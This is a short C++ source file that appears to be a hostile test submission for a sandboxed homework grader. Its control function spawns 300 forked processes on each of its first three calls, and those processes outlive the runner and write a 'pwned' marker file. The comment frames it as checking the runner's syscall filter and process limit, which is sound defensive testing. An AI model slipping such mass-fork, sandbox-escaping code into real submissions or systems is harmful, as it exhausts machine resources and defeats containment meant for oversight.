// Attack: start many processes that outlive the runner and leave a marker later.
// The runner's system-call filter refuses every fork; where no filter is offered, the first calls
// of each runner fill its process limit (RLIMIT_NPROC). Every later call could only repeat forks
// that fail, which cost the machine 38 s of kernel time in the simulation tests (thousands of
// calls, 300 failing forks each) and prove nothing more.
#include <problems/1b/contract.hpp>
#include <unistd.h>

#include <cstdio>

namespace opspace::hw2::p1b {
Vector6d control(Part, const State&, const Goal&) {
  static int calls = 0;
  if (calls++ < 3) {
    for (int i = 0; i < 300; ++i) {
      if (fork() == 0) {
        sleep(2);
        if (FILE* f = std::fopen("@WORK@/pwned", "w")) std::fclose(f);
        sleep(60);
        _exit(0);
      }
    }
  }
  return Vector6d::Zero();
}
}  // namespace opspace::hw2::p1b
